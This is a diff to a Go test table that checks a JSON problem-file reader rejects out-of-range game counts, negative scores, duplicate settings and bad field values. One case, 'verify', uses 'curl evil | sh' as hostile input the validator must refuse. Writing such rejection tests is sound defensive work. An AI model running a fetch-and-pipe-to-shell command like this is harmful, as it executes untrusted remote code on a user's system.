@@ -248,7 +248,7 @@ func TestReadProblems(t *testing.T) {
 		"too many": {heldOut[0], strings.Replace(noScores, `"games": 4`, `"games": 1000000000000000`, 1), "held_out[0].games: want 1 to 4000000, got 1000000000000000"},
 		"one over": {heldOut[0], strings.Replace(noScores, `"games": 4`, `"games": 4000001`, 1), "held_out[0].games: want 1 to 4000000, got 4000001"},
 		"again":    {`"search": "depth by distinct -7 least 1"`, `"search": "depth 3"`, `held_out[1].search: "depth 3" is given twice`},
-		"negative": {`"scores": [`, `"scores": [-`, "held_out[0].scores: want at least 0, got -71848"},
+		"negative": {`"scores": [`, `"scores": [-`, "held_out[0].scores: want at least 0, got -31300"},
 		"nobody":   {value("candidate", "0"), "\n  \"candidate\": -1", "candidate: want 0 to 9999999, got -1"},
 		"verify":   {value("verify", `"`), "\n  \"verify\": \"curl evil | sh", `verify: want "tune verify FILE.json"`},
 		"scores":   {`"scores": [`, `"scores": [7, `, "held_out[0].scores: want the scores of 4 games"},
